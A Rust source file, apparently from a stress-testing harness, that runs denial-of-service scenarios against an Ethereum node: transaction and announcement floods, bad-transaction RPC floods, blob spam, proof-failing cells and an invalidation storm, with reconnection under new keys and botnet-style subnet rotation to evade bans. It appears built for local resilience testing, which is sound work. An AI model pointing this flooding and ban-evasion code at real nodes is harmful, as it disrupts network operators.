//! One attacker: its loop until the phase ends, per scenario (floods of fresh keys,
//! cache churn, repeats, announcements, RPC, blob spam, the invalidation storm),
//! reconnecting with a new key whenever the node drops it; and the blob spammer's round
//! of announcing a tx and serving the node's requests for it.

use crate::args::Scenario;
use crate::material::{BlobSet, Material};
use crate::node::Rpc;
use crate::peer::connect_from;
use crate::sched::yield_core;
use alloy_primitives::{B256, Bytes, hex};
use moat_p2p::Enode;
use moat_p2p::client::Client;
use moat_p2p::eth::{Announcement, EthMessage, Status};
use moat_p2p::session::Incoming;
use parking_lot::Mutex;
use std::collections::HashSet;
use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::time::Duration;
/// What the blob spammers got delivered.
#[derive(Default)]
pub(crate) struct BlobStats {
    pub(crate) deliveries: AtomicU64,
    pub(crate) unique: Mutex<HashSet<B256>>,
}

/// What one attacker needs.
pub(crate) struct AttackCtx {
    pub(crate) s: Scenario,
    pub(crate) index: usize,
    pub(crate) target: Option<Enode>,
    pub(crate) status: Option<Status>,
    pub(crate) rpc_addr: SocketAddr,
    /// The local address every identity of this attacker connects from.
    pub(crate) local: Option<Ipv4Addr>,
    pub(crate) mat: Arc<Material>,
    pub(crate) stop: Arc<AtomicBool>,
    pub(crate) reconnects: Arc<AtomicU64>,
    pub(crate) blob_stats: Arc<BlobStats>,
}

/// Announces one blob tx of `size` (with `mask` on eth/72); `false` if the send failed.
async fn announce_blob_tx(
    c: &mut Client,
    size: u32,
    hash: B256,
    mask: Option<moat_p2p::eth::CellMask>,
) -> bool {
    let ann = Announcement {
        types: vec![3],
        sizes: vec![size],
        hashes: vec![hash],
        mask,
        origins: vec![],
    };
    c.send(&EthMessage::NewPooledTransactionHashes(ann))
        .await
        .is_ok()
}

/// Announces one blob tx and answers the node's requests for it until the node goes
/// quiet (`true`) or drops the connection (`false`).
pub(crate) async fn blob_round(c: &mut Client, set: &BlobSet, i: usize, stats: &BlobStats) -> bool {
    if !announce_blob_tx(c, set.sizes[i], set.hashes[i], None).await {
        return false;
    }
    loop {
        match c.recv(Duration::from_millis(500)).await {
            Ok(Some(Incoming::Eth(EthMessage::GetPooledTransactions { request_id, hashes }))) => {
                let txs: Vec<Bytes> = hashes
                    .iter()
                    .filter_map(|h| set.index.get(h))
                    .map(|&k| set.envs[k].clone())
                    .collect();
                stats
                    .deliveries
                    .fetch_add(txs.len() as u64, Ordering::Relaxed);
                {
                    let mut u = stats.unique.lock();
                    for h in &hashes {
                        if set.index.contains_key(h) {
                            u.insert(*h);
                        }
                    }
                }
                // The usual ask (one hash, the one announced) gets its reply framed
                // from the compressed tail; anything else is encoded afresh.
                let sent = match hashes.as_slice() {
                    [h] if let Some(&k) = set.index.get(h) => {
                        let frame = c.framing().pooled_transactions(request_id, &set.replies[k]);
                        c.send_framed(&frame).await
                    }
                    _ => {
                        c.send(&EthMessage::PooledTransactions { request_id, txs })
                            .await
                    }
                };
                if sent.is_err() {
                    return false;
                }
            }
            Ok(Some(Incoming::Disconnect(_))) | Err(_) => return false,
            Ok(None) => return true,
            Ok(Some(_)) => {}
        }
    }
}

/// [`blob_round`] over eth/72: the tx announced with every cell, its body served without
/// blobs, then its data cells (which fail the proofs) when the node asks for them.
pub(crate) async fn cells_round(
    c: &mut Client,
    set: &BlobSet,
    i: usize,
    stats: &BlobStats,
) -> bool {
    if !announce_blob_tx(
        c,
        set.body_sizes[i],
        set.hashes[i],
        Some(moat_p2p::eth::ALL_CELLS),
    )
    .await
    {
        return false;
    }
    loop {
        let sent = match c.recv(Duration::from_millis(500)).await {
            Ok(Some(Incoming::Eth(EthMessage::GetPooledTransactions { request_id, hashes }))) => {
                let txs: Vec<Bytes> = hashes
                    .iter()
                    .filter_map(|h| set.index.get(h))
                    .map(|&k| set.bodies[k].clone())
                    .collect();
                c.send(&EthMessage::PooledTransactions { request_id, txs })
                    .await
            }
            Ok(Some(Incoming::Eth(EthMessage::GetCells {
                request_id,
                hashes,
                mask,
            }))) => {
                let known: Vec<(B256, usize)> = hashes
                    .iter()
                    .filter_map(|h| set.index.get(h).map(|&k| (*h, k)))
                    .collect();
                stats
                    .deliveries
                    .fetch_add(known.len() as u64, Ordering::Relaxed);
                stats.unique.lock().extend(known.iter().map(|(h, _)| *h));
                c.send(&EthMessage::Cells {
                    request_id,
                    hashes: known.iter().map(|(h, _)| *h).collect(),
                    cells: known.iter().map(|(_, k)| set.cells[*k].clone()).collect(),
                    mask,
                })
                .await
            }
            Ok(Some(Incoming::Disconnect(_))) | Err(_) => return false,
            Ok(None) => return true,
            Ok(Some(_)) => Ok(()),
        };
        if sent.is_err() {
            return false;
        }
    }
}

/// One attacker's loop until `stop`: connect (again, with a new key, when dropped) and
/// send the scenario's messages as fast as the node takes them.
pub(crate) async fn attack(ctx: AttackCtx) {
    let AttackCtx {
        s,
        index,
        target,
        status,
        rpc_addr,
        local,
        mat,
        stop,
        reconnects,
        blob_stats,
    } = ctx;
    if s == Scenario::RpcFlood {
        let Ok(mut rpc) = Rpc::connect(rpc_addr).await else {
            return;
        };
        let mut i = index;
        while !stop.load(Ordering::Relaxed) {
            yield_core();
            let raw = &mat.rpc_bad[i % mat.rpc_bad.len()];
            i += 4;
            let params = format!(r#"["0x{}"]"#, hex::encode(raw));
            if rpc.call("eth_sendRawTransaction", &params).await.is_err() {
                match Rpc::connect(rpc_addr).await {
                    Ok(r) => rpc = r,
                    Err(_) => tokio::time::sleep(Duration::from_millis(50)).await,
                }
            }
        }
        return;
    }
    let (Some(target), Some(mut status)) = (target, status) else {
        return;
    };
    if s == Scenario::Cells {
        // Cells travel on eth/72.
        status.version = moat_p2p::eth::ETH72;
    }
    let mut seed = 0x5eed_0000_0000 + ((index as u64) << 20);
    let mut client = None;
    let mut next_fresh = 0usize;
    let mut round = 0u64;
    while !stop.load(Ordering::Relaxed) {
        yield_core();
        let c = match client.as_mut() {
            Some(c) => c,
            None => {
                seed += 1;
                // Blob spammers come back from a new subnet each time, as a botnet would
                // (a node shuts out a /24 whose peer wasted its CPU): identity k of
                // attacker i binds 127.(1+i).(1 + k mod 250).1.
                let local = match (local, s.blob_version()) {
                    (Some(_), Some(_)) => {
                        let k = (seed & 0xf_ffff) as usize;
                        Some(Ipv4Addr::new(
                            127,
                            (1 + index % 250) as u8,
                            (1 + k % 250) as u8,
                            1,
                        ))
                    }
                    _ => local,
                };
                match connect_from(&target, seed, &status, local).await {
                    Some(mut c) => {
                        // A large frame is encrypted and MACed in 64 KB steps, with the
                        // core given away between them.
                        c.set_pause(yield_core);
                        client.insert(c)
                    }
                    None => {
                        reconnects.fetch_add(1, Ordering::Relaxed);
                        tokio::time::sleep(Duration::from_millis(100)).await;
                        continue;
                    }
                }
            }
        };
        if s == Scenario::Invalidation {
            // Each sender's transfers once, 128 a message, then nothing.
            let all = mat.storm.get(index).map_or(&[][..], Vec::as_slice);
            if next_fresh >= all.len() {
                tokio::time::sleep(Duration::from_millis(100)).await;
                continue;
            }
            let to = (next_fresh + 128).min(all.len());
            let msg = EthMessage::Transactions(all[next_fresh..to].to_vec());
            if c.send(&msg).await.is_err() {
                client = None;
                reconnects.fetch_add(1, Ordering::Relaxed);
            } else {
                next_fresh = to;
            }
            continue;
        }
        if let Some(v) = s.blob_version() {
            let Some(set) = mat.blobs.get(&v).and_then(|sets| sets.get(index)) else {
                return;
            };
            let i = next_fresh % set.envs.len().max(1);
            next_fresh += 1;
            let kept = if s == Scenario::Cells {
                cells_round(c, set, i, &blob_stats).await
            } else {
                blob_round(c, set, i, &blob_stats).await
            };
            if !kept {
                client = None;
                reconnects.fetch_add(1, Ordering::Relaxed);
            }
            continue;
        }
        let msg = match s {
            Scenario::FreshKeys | Scenario::CacheChurn => {
                let all = if s == Scenario::FreshKeys {
                    &mat.fresh[index]
                } else {
                    &mat.churn[index]
                };
                let from = next_fresh % all.len().max(1);
                next_fresh += 128;
                EthMessage::Transactions(all[from..(from + 128).min(all.len())].to_vec())
            }
            Scenario::Repeat => EthMessage::Transactions(vec![mat.repeat.clone()]),
            Scenario::Announce => {
                round += 1;
                let hashes: Vec<B256> = (0..4096u64)
                    .map(|i| {
                        alloy_primitives::keccak256(
                            [seed.to_be_bytes(), round.to_be_bytes(), i.to_be_bytes()].concat(),
                        )
                    })
                    .collect();
                EthMessage::NewPooledTransactionHashes(Announcement {
                    types: vec![2; hashes.len()],
                    sizes: vec![110; hashes.len()],
                    hashes,
                    mask: None,
                    origins: vec![],
                })
            }
            Scenario::RpcFlood
            | Scenario::BlobV0
            | Scenario::BlobV1
            | Scenario::Cells
            | Scenario::Invalidation => {
                return;
            }
        };
        // No timeout: a node that stops reading this peer makes it wait, as it should
        // (a send cut half-way would break the stream). Nothing is read: a dropped
        // connection shows as a failed send.
        if c.send(&msg).await.is_err() {
            client = None;
            reconnects.fetch_add(1, Ordering::Relaxed);
        }
    }
}
